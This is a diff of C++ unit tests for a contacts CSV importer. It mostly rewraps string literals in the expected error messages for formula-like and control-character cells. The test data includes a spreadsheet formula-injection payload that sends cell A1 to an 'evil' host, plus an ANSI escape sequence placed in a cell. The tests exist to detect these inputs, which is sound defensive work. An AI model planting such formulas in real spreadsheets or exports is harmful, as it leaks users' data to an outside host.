@@ -4,8 +4,8 @@
 #include "contacts/contacts_csv.h"
 #include "contacts_fixture.h"
 #include "core/encoding.h"
-#include "helpers.h"
 #include "core/i18n.h"
+#include "helpers.h"
 
 using namespace mamori;
 using mamori::testing::formatted;
@@ -81,13 +81,17 @@ TEST_SUITE("contacts_csv") {
         out);
     CHECK(formatted(out) ==
           std::vector<std::string>{
-              "3:7: error: column G (備考): '=HYPERLINK(\"http://evil/?\"&A1,\"x\")' starts with '=', which Excel runs as a formula: "
+              "3:7: error: column G (備考): '=HYPERLINK(\"http://evil/?\"&A1,\"x\")' starts with '=', which Excel runs "
+              "as a formula: "
               "remove it, or write an apostrophe before it ('=…) to keep it as text, as mamori contacts export does",
-              "4:3: error: column C (相談先): '@SUM(1)' starts with '@', which Excel runs as a formula: remove it, or write an apostrophe "
+              "4:3: error: column C (相談先): '@SUM(1)' starts with '@', which Excel runs as a formula: remove it, or "
+              "write an apostrophe "
               "before it ('@…) to keep it as text, as mamori contacts export does",
-              "4:5: error: column E (電話番号): '+81-52-954-6370' starts with '+', which Excel runs as a formula: remove it, or write an "
+              "4:5: error: column E (電話番号): '+81-52-954-6370' starts with '+', which Excel runs as a formula: "
+              "remove it, or write an "
               "apostrophe before it ('+…) to keep it as text, as mamori contacts export does",
-              "4:7: error: column G (備考): '-平日のみ' starts with '-', which Excel runs as a formula: remove it, or write an "
+              "4:7: error: column G (備考): '-平日のみ' starts with '-', which Excel runs as a formula: remove it, or "
+              "write an "
               "apostrophe before it ('-…) to keep it as text, as mamori contacts export does",
               "4: error: missing 相談先 (organization)"});
   }
@@ -101,11 +105,11 @@ TEST_SUITE("contacts_csv") {
         "区分,相談内容,相談先,URL,電話番号,メール,備考\n"
         "県内,a,\"o\x1b[31mRED\",,03-1234-5678,,\"x\xc2\x85y\"\n",
         out);
-    CHECK(formatted(out) ==
-          std::vector<std::string>{
-              "3:3: error: column C (相談先): the cell holds a control character (U+001B), which cannot be shown on a page: remove it",
-              "3:7: error: column G (備考): the cell holds a control character (U+0085), which cannot be shown on a page: remove it",
-              "3: error: missing 相談先 (organization)"});
+    CHECK(formatted(out) == std::vector<std::string>{"3:3: error: column C (相談先): the cell holds a control "
+                                                     "character (U+001B), which cannot be shown on a page: remove it",
+                                                     "3:7: error: column G (備考): the cell holds a control character "
+                                                     "(U+0085), which cannot be shown on a page: remove it",
+                                                     "3: error: missing 相談先 (organization)"});
   }
 
   TEST_CASE("import reads Excel's date styles, any column order, and skips blank rows") {
